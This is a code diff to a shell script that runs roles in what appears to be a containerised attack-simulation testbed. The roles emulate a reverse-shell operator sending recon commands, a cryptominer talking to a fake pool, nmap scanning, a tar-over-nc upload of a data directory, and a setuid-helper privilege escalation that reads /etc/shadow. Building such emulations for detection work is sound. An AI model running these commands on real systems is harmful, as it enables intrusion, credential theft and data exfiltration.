@@ -10,8 +10,8 @@
 #   sidecar URL                      sleeps, a health probe every 30 s
 #   idle                             sleeps (attack containers before their attack)
 # Attack infrastructure:
-#   pool PORT                        stratum-like JSON-RPC listener (ncat)
-#   listener PORT                    reverse-shell operator (ncat -c operator)
+#   pool PORT                        stratum-like JSON-RPC listener (socat)
+#   listener PORT                    reverse-shell operator (socat EXEC operator)
 #   sink PORT                        bulk upload sink (socat to /dev/null)
 # Attacks (started with `docker exec` at the scheduled time):
 #   miner HOST PORT DURATION         CPU miner stand-in (stress-ng named xmrig)
@@ -139,24 +139,44 @@ case "$role" in
     done
     ;;
   pool)
-    exec timeout "$(left)" ncat -lk -p "$1" \
-      -c 'while read -r l; do echo "{\"id\":1,\"jsonrpc\":\"2.0\",\"result\":{\"status\":\"OK\"}}"; done'
+    exec timeout "$(left)" socat TCP-LISTEN:"$1",fork,reuseaddr EXEC:'sh /wl/roles.sh pool-session'
+    ;;
+  pool-session)
+    # One miner connection: answer every JSON-RPC line.
+    n=0
+    while read -r _; do
+      echo '{"id":1,"jsonrpc":"2.0","result":{"status":"OK"}}'
+      n=$((n + 1))
+    done
+    log "session closed after $n requests" >&2
     ;;
   listener)
-    exec timeout "$(left)" ncat -lk -p "$1" -c 'sh /wl/roles.sh operator'
+    exec timeout "$(left)" socat TCP-LISTEN:"$1",fork,reuseaddr EXEC:'sh /wl/roles.sh operator'
     ;;
   operator)
-    # One reverse-shell session: drain the shell's output, type commands.
-    cat >/dev/null &
-    drain=$!
+    # One reverse-shell session: type commands, keep what the shell prints.
+    # socat ends the session (SIGTERM) when the shell goes away.
+    out="/tmp/session.$$"
     i=0
-    while [ $i -lt 60 ] && alive; do
-      echo 'id; uname -a; ls -la /; wc -l /etc/passwd; ps; netstat -tn'
+    finish() {
+      log "session: $i commands, $(wc -c < "$out") bytes back, first line: $(head -n 1 "$out")" >&2
+      rm -f "$out"
+      exit 0
+    }
+    trap '' PIPE
+    trap finish TERM
+    exec 3<&0  # a background job gets /dev/null as fd 0: read the socket via fd 3
+    cat <&3 > "$out" &
+    drain=$!
+    while [ $i -lt 60 ] && alive && kill -0 "$drain" 2>/dev/null; do
+      echo 'id; uname -a; ls -la /; wc -l /etc/passwd; ps; netstat -tn' 2>/dev/null || break
       sleep 3
       i=$((i + 1))
     done
-    echo exit
+    echo exit 2>/dev/null
+    sleep 1
     kill "$drain" 2>/dev/null
+    finish
     ;;
   sink)
     exec timeout "$(left)" socat -u TCP-LISTEN:"$1",fork,reuseaddr OPEN:/dev/null
@@ -166,6 +186,8 @@ case "$role" in
     log "start"
     xmrig --cpu 1 --cpu-load 100 --timeout "$3"s --quiet &
     burner=$!
+    sessions=0
+    replies=0
     while [ "$(now)" -lt "$stop" ]; do
       {
         echo '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge","pass":"x","agent":"XMRig/6.21.0"}}'
@@ -175,19 +197,22 @@ case "$role" in
           echo '{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"1","job_id":"1","nonce":"0000abcd","result":"00"}}'
           k=$((k + 1))
         done
-      } | timeout "$(until_ts "$stop")" nc "$pool" "$port" >/dev/null 2>&1
+      } | timeout "$(until_ts "$stop")" nc "$pool" "$port" > /tmp/pool.out 2>&1
+      sessions=$((sessions + 1))
+      replies=$((replies + $(grep -c result /tmp/pool.out)))
       sleep 2
     done
     kill "$burner" 2>/dev/null
     wait
-    log "stop"
+    log "stop: $sessions pool sessions, $replies pool replies"
     ;;
   scan)
     stop=$(( $(now) + $1 )); shift
     log "start $*"
     while [ "$(now)" -lt "$stop" ]; do
       timeout "$(until_ts "$stop")" nmap -sS -Pn -n -T4 --max-retries 1 --host-timeout 60s \
-        -p 1-10000 "$@" >/dev/null 2>&1
+        -p 1-10000 "$@" > /tmp/nmap.out 2>&1
+      log "$(grep -c '/tcp .*open' /tmp/nmap.out) open ports; $(grep 'Nmap done' /tmp/nmap.out)"
       sleep 3
     done
     log "stop"
@@ -210,6 +235,8 @@ case "$role" in
       sleep "$(until_ts "$stop")" &
       i=$((i + 1))
     done
+    sleep 2
+    log "$i sleepers started, $(ps | wc -l) processes in the container"
     wait
     log "stop"
     ;;
@@ -217,21 +244,25 @@ case "$role" in
     host="$1"; port="$2"; stop=$(( $(now) + $3 ))
     log "start"
     k=0
+    kib=$(du -sk /tmp/pgdata | awk '{print $1}')
     while [ $k -lt 40 ] && [ "$(now)" -lt "$stop" ]; do
       tar cf - /tmp/pgdata 2>/dev/null | timeout "$(until_ts "$stop")" nc "$host" "$port"
       k=$((k + 1))
       sleep 5
     done
-    log "stop after $k uploads"
+    log "stop after $k uploads of the data directory (${kib} KiB each)"
     ;;
   privesc)
     stop=$(( $(now) + $1 ))
-    log "start as $(id -u)"
+    log "start as uid $(id -u)"
+    n=0
     while [ "$(now)" -lt "$stop" ]; do
-      /usr/local/bin/wl-suid /bin/sh -c 'id -u; head -n 1 /etc/shadow; date >> /etc/wl-owned' >/dev/null 2>&1
+      got="$(/usr/local/bin/wl-suid /bin/sh -c 'id -u; head -n 1 /etc/shadow | cut -d: -f1; date >> /etc/wl-owned' 2>&1 | tr '\n' ' ')"
+      [ $n -eq 0 ] && log "as root via the setuid helper: $got"
+      n=$((n + 1))
       sleep 5
     done
-    log "stop"
+    log "stop after $n privileged runs"
     ;;
   *)
     echo "unknown role $role" >&2
